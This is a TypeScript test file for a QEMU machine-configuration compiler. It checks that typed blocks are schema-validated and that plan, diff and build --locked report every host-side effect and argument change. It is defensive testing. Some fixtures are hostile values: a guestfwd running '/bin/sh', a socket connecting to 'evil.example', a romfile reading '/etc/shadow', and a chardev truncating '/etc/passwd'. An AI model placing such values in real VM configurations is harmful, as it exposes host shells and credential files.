/**
 * Review you can trust: typed blocks took anything, tap ran /etc/qemu-ifup,
 * host-side changes invisible to plan, diff and build --locked; and the review invariant: whenever
 * two builds' QEMU arguments or host-side effects differ, `plan` and `diff` report a change naming
 * it. The property runs REVIEW_RUNS (default 200) generated machine/edit pairs; the last test
 * shows it fails on the old, placement-only plan.
 */
import fc from 'fast-check';
import { comparePlacements, compile, describeHostEffect, hostEffects, readLock, type Plan, type PlacedMachine } from '../../compiler/index.js';
import { renderPlan } from '../../cli/render-plan.js';
import { BACKEND_PREFIXES } from '../../compiler/qemu/backend-ids.js';
import { cleanScratch, put, run, runCli, scratch } from '../cli/harness.js';

afterAll(cleanScratch);

const RUNS = Number(process.env.REVIEW_RUNS ?? 200);
const machine = (body: string) => `machine m {\n${body}\n}\n`;
const build = (source: string, lock?: string) => compile({ file: 'm.machine', source, lock: lock === undefined ? undefined : { file: 'm.machine.lock', text: lock } });
const errors = (source: string) => build(source).diagnostics.filter((d) => d.severity === 'error');

describe('typed blocks have schemas', () => {
  it.each([
    ['user { hostfwdd = "tcp::2222-:22" }', 'user { … } has no property hostfwdd', 'did you mean hostfwd?'],
    ['tap { ifnam = "tap0" }', 'tap { … } has no property ifnam', 'did you mean ifname?'],
    ['tap { script = 1 }', 'script: expected a string', undefined],
    ['vde { sock = "/x" }', 'unknown netdev type vde', undefined],
  ])('netdev = %s', (netdev, message, hint) => {
    const errs = errors(machine(`  device nic0: e1000 { netdev = ${netdev} }`));
    expect(errs.map((e) => e.message).join('\n')).toContain(message);
    if (hint) expect(errs.map((e) => e.hint).join('\n')).toContain(hint);
  });

  it.each([
    ['format = qcow2 { x = 1 }', 'format qcow2 { … } has no property x'],
    ['format = raw { x = 1 }', 'format raw { … } has no property x'],
  ])('%s is an error, not driver=undefined', (fmt, message) => {
    const c = build(machine(`  device disk0: virtio-blk-pci { file = "a.img", ${fmt} }`));
    expect(c.diagnostics.map((d) => d.message)).toContain(message);
    expect(c.argv).toBeUndefined();
  });

  it('format = qcow2 { lazy-refcounts = true } reaches -blockdev', () => {
    const c = build(machine('  device disk0: virtio-blk-pci { file = "a.img", format = qcow2 { lazy-refcounts = true } }'));
    expect(c.argv).toContain('driver=qcow2,node-name=drive-disk0,lazy-refcounts=on,file.driver=file,file.filename=a.img');
  });

  it('accel = kvm { … } is emitted, and checked', () => {
    const c = build(machine('  accel = kvm { kernel-irqchip = split }'));
    expect(c.argv!.join(' ')).toContain('-accel kvm,kernel-irqchip=split');
    expect(errors(machine('  accel = kvm { kernel-irqchipp = split }'))[0].hint).toBe('did you mean kernel-irqchip?');
    expect(errors(machine('  accel = [kvm { kernel-irqchip = maybe }, tcg]'))[0].message).toMatch(/maybe is not one of on, off, split/);
  });

  it('a chardev file needs its path; display and audiodev blocks are checked', () => {
    expect(errors(machine('  device vs: virtio-serial-pci {\n    device p0: virtserialport { chardev = file {} }\n  }'))[0].message).toBe('chardev file needs path');
    expect(errors(machine('  display = gtk { fullscreen = true }'))[0].hint).toBe('did you mean full-screen?');
    expect(errors(machine('  device hda: intel-hda {\n    device d: hda-duplex { audiodev = wav { pth = "/tmp/a.wav" } }\n  }'))[0].hint).toBe('did you mean path?');
  });

  it('a plain tap gets script=no,downscript=no; a named script is kept and shown as a host effect', () => {
    expect(build(machine('  device nic0: e1000 { netdev = tap { ifname = "tap0" } }')).argv).toContain('tap,id=net-nic0,ifname=tap0,script=no,downscript=no');
    const c = build(machine('  device nic0: e1000 { netdev = tap { script = "/tmp/x.sh" } }'));
    expect(c.argv).toContain('tap,id=net-nic0,script=/tmp/x.sh,downscript=no');
    expect(hostEffects(c.machine!).map(describeHostEffect)).toContain('runs /tmp/x.sh  [-netdev net-nic0 (tap script, as the user QEMU runs as)]');
  });

  it('netdev = user → tap { script = "/tmp/x.sh" }: plan names it, diff exits 1, build --locked fails', async () => {
    const before = machine('  device nic0: e1000 { netdev = user }');
    const after = machine('  device nic0: e1000 { netdev = tap { script = "/tmp/x.sh" } }');
    const dir = scratch({ 'm.machine': before });
    expect((await run(['build', 'm.machine'], dir)).code).toBe(0);
    put(dir, 'm.machine', after);
    const plan = await run(['plan', 'm.machine'], dir);
    expect(plan.stdout).toContain('~ option -netdev net-nic0: user,id=net-nic0 → tap,id=net-nic0,script=/tmp/x.sh,downscript=no');
    expect(plan.stdout).toMatch(/host effects[^\n]*\n\s+\+ runs \/tmp\/x\.sh/);
    const locked = await run(['build', '--locked', 'm.machine'], dir);
    expect(locked.code).toBe(1);
    expect(locked.stdout).toBe('');
    const { readFileSync, writeFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    writeFileSync(join(dir, 'old.lock'), readFileSync(join(dir, 'm.machine.lock')));
    expect((await run(['build', 'm.machine'], dir)).code).toBe(0);
    const diff = await runCli(['diff', 'old.lock', 'm.machine.lock'], dir);
    expect(diff.code).toBe(1);
    expect(diff.stdout).toContain('+ runs /tmp/x.sh');
  });

  it.each([
    ['user { guestfwd = "tcp:10.0.2.100:1234-cmd:/bin/sh" }', 'runs /bin/sh'],
    ['user { smb = "/" }', 'runs smbd sharing /'],
    ['socket { connect = "evil.example:1234" }', 'connects to evil.example:1234'],
  ])('%s is a host effect', (netdev, effect) => {
    const c = build(machine(`  device nic0: e1000 { netdev = ${netdev} }`));
    expect(hostEffects(c.machine!).map(describeHostEffect).join('\n')).toContain(effect);
  });

  it.each([['vhost=on'], ['vhost']])('a tap given by qemu-args with %s uses /dev/vhost-net (a bare key is key=on, as QEMU reads it)', (vhost) => {
    const c = build(machine(`  qemu-args = ["-netdev", "tap,id=t9,ifname=tap9,${vhost}"]`));
    expect(hostEffects(c.machine!).map(describeHostEffect).join('\n')).toContain('uses host device /dev/vhost-net');
  });

  it('romfile, a raw host disk, a truncated chardev file and vfio are host effects', () => {
    const c = build(machine([
      '  device nic0: e1000 { netdev = user, romfile = "/etc/shadow" }',
      '  device disk0: virtio-blk-pci { file = "/dev/sda" }',
      '  device vs: virtio-serial-pci {\n    device p0: virtserialport { chardev = file { path = "/etc/passwd" } }\n  }',
      '  device gpu: vfio-pci { host = "0000:01:00.0" }',
    ].join('\n')));
    expect(hostEffects(c.machine!).map(describeHostEffect)).toEqual(expect.arrayContaining([
      'reads /etc/shadow  [-device nic0 (romfile)]',
      'uses host device /dev/sda  [-blockdev drive-disk0 (disk image)]',
      'opens for writing /etc/passwd  [-chardev chr-p0 (chardev file, truncated)]',
      'uses host device host PCI device 0000:01:00.0 (passed through)  [-device gpu]',
    ]));
  });
});

// ---- the review invariant ------------------------------------------------------------------

const NETDEVS = ['user', 'tap { ifname = "tap0" }', 'tap { script = "/tmp/x.sh" }', 'tap { ifname = "tap1", downscript = "/tmp/d.sh" }', 'bridge { br = "br0" }', 'user { hostfwd = "tcp::2222-:22" }', 'user { smb = "/srv" }', 'socket { connect = "10.0.0.1:1234" }', 'socket { listen = ":1234" }'];
const CHARDEVS = ['null', 'pty', 'file { path = "/tmp/log" }', 'file { path = "/tmp/log", append = true }', 'socket { path = "/tmp/s", server = true, wait = false }', 'socket { host = "10.0.0.2", port = 4555 }'];
const FILES = ['"a.img"', '"b.qcow2"', '"/dev/sda"', '"/srv/c.img"'];
const FORMATS = ['', ', format = raw', ', format = qcow2', ', format = qcow2 { lazy-refcounts = true }'];
const EXTRAS = ['', ', bootindex = 1', ', bootindex = 2', ', romfile = "/tmp/rom.bin"'];
const MACHINE_PROPS = ['', 'memory = 2G', 'memory = 4G', 'cpus = 2', 'accel = tcg', 'accel = kvm { kernel-irqchip = split }', 'display = gtk', 'display = none'];

interface Gen {
  readonly props: string[];
  readonly nics: { netdev: string; extra: string }[];
  readonly disks: { file: string; format: string; readonly: boolean }[];
  readonly ports: string[];
}

const gen: fc.Arbitrary<Gen> = fc.record({
  props: fc.uniqueArray(fc.constantFrom(...MACHINE_PROPS), { maxLength: 3, selector: (p) => p.split(' ')[0] }),
  nics: fc.array(fc.record({ netdev: fc.constantFrom(...NETDEVS), extra: fc.constantFrom(...EXTRAS) }), { minLength: 1, maxLength: 3 }),
  disks: fc.array(fc.record({ file: fc.constantFrom(...FILES), format: fc.constantFrom(...FORMATS), readonly: fc.boolean() }), { maxLength: 2 }),
  ports: fc.array(fc.constantFrom(...CHARDEVS), { maxLength: 2 }),
});

function source(g: Gen): string {
  const lines = g.props.filter(Boolean).map((p) => `  ${p}`);
  g.nics.forEach((n, i) => lines.push(`  device nic${i}: virtio-net-pci { netdev = ${n.netdev}${n.extra} }`));
  g.disks.forEach((d, i) => lines.push(`  device disk${i}: virtio-blk-pci { file = ${d.file}${d.format}${d.readonly ? ', readonly = true' : ''} }`));
  if (g.ports.length) lines.push(`  device vs: virtio-serial-pci {\n${g.ports.map((c, i) => `    device port${i}: virtserialport { chardev = ${c} }`).join('\n')}\n  }`);
  return machine(lines.join('\n'));
}

/** An edit of g: one property, backend, file, format, flag or device changed, added or removed. */
const edit = (g: Gen): fc.Arbitrary<Gen> =>
  fc.oneof(
    gen.map((h) => ({ ...g, props: h.props })),
    fc.tuple(fc.nat(), fc.constantFrom(...NETDEVS)).map(([i, n]) => ({ ...g, nics: g.nics.map((x, k) => (k === i % g.nics.length ? { ...x, netdev: n } : x)) })),
    fc.tuple(fc.nat(), fc.constantFrom(...EXTRAS)).map(([i, e]) => ({ ...g, nics: g.nics.map((x, k) => (k === i % g.nics.length ? { ...x, extra: e } : x)) })),
    gen.map((h) => ({ ...g, disks: h.disks })),
    gen.map((h) => ({ ...g, ports: h.ports })),
    gen.map((h) => ({ ...g, nics: h.nics })),
  );

const pairs = (argv: readonly string[]): string[] => {
  const out: string[] = [];
  for (let i = 0; i < argv.length; i++) out.push(argv[i + 1] !== undefined && !argv[i + 1].startsWith('-') ? `${argv[i]} ${argv[++i]}` : argv[i]);
  return out;
};

const escapeRegExp = (s: string): string => s.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&');
/** A backend id's prefix (`net-`, `tpm-`, …), by machinec's one list of them: the rest is the device the reviewer reads. */
const BACKEND_PREFIX = new RegExp(`^(?:${Object.values(BACKEND_PREFIXES).map(escapeRegExp).join('|')})`);

/** What a reviewer reads: the plan of `plan` (lock on disk against the build) and of `diff` (two locks). */
function reviewText(plan: Plan): string {
  return renderPlan(plan, { color: false });
}

/**
 * The invariant for one pair: every argument pair that differs is named (its device id, or its
 * option and backend id), and every host effect that differs is listed with + or -.
 */
function checkReview(a: { argv: string[]; machine: PlacedMachine }, b: { argv: string[]; machine: PlacedMachine }, plan: Plan): void {
  const text = reviewText(plan);
  const was = new Set(pairs(a.argv));
  const now = new Set(pairs(b.argv));
  const changed = [...now].filter((p) => !was.has(p)).concat([...was].filter((p) => !now.has(p)));
  for (const p of changed) {
    const [opt, value = ''] = p.split(' ');
    const id = /(?:^|,)(?:id|node-name)=([^,]+)/.exec(value)?.[1];
    if (opt === '-device') expect(text).toContain(` ${id} `);
    else if (id) expect(text).toMatch(new RegExp(`${opt} ${id.replace(/[.+-]/g, '\\$&')}|${escapeRegExp(id.replace(BACKEND_PREFIX, ''))} `));
    else expect(text).toContain(`option ${opt}`);
  }
  const effects = (m: PlacedMachine) => hostEffects(m).map(describeHostEffect).sort();
  const ea = effects(a.machine);
  const eb = effects(b.machine);
  for (const e of eb.filter((x) => !ea.includes(x))) expect(text).toContain(`+ ${e}`);
  for (const e of ea.filter((x) => !eb.includes(x))) expect(text).toContain(`- ${e}`);
  if (changed.length) expect(plan.changes.length + plan.options.length + plan.machine.length).toBeGreaterThan(0);
}

function property(comparer: (before: PlacedMachine, after: PlacedMachine) => Plan) {
  return fc.property(
    gen.chain((g) => fc.tuple(fc.constant(g), edit(g))),
    ([ga, gb]) => {
      const a = build(source(ga));
      if (!a.ok) throw new Error(`generated machine does not build:\n${source(ga)}\n${a.diagnostics.map((d) => d.message).join('\n')}`);
      const b = build(source(gb), a.lockText);
      if (!b.ok) throw new Error(`edited machine does not build:\n${source(gb)}\n${b.diagnostics.map((d) => d.message).join('\n')}`);
      // plan: the lock on disk against the build; diff: the two locks, as read back.
      checkReview({ argv: a.argv!, machine: a.machine! }, { argv: b.argv!, machine: b.machine! }, comparer(readLock(a.lockText!, 'a').lock!, b.machine!));
      const read = (t: string) => readLock(t, 'x').lock!;
      checkReview({ argv: a.argv!, machine: read(a.lockText!) }, { argv: b.argv!, machine: read(b.lockText!) }, comparer(read(a.lockText!), read(b.lockText!)));
      expect(b.lockText === a.lockText).toBe(a.argv!.join('\0') === b.argv!.join('\0'));
    },
  );
}

describe('the review invariant', () => {
  it(`plan and diff name every argument and host effect that changes (${RUNS} generated edits)`, () => {
    fc.assert(property(comparePlacements), { numRuns: RUNS });
  });

  it('fails on the old behaviour: a plan of placement and pins only (options and properties not compared)', () => {
    const old = (before: PlacedMachine, after: PlacedMachine) => {
      const strip = (m: PlacedMachine): PlacedMachine => ({ ...m, options: [], devices: m.devices.map(({ props: _p, ...d }) => d) });
      return comparePlacements(strip(before), strip(after));
    };
    expect(() => fc.assert(property(old), { numRuns: RUNS })).toThrow(/Property failed/);
  });
});
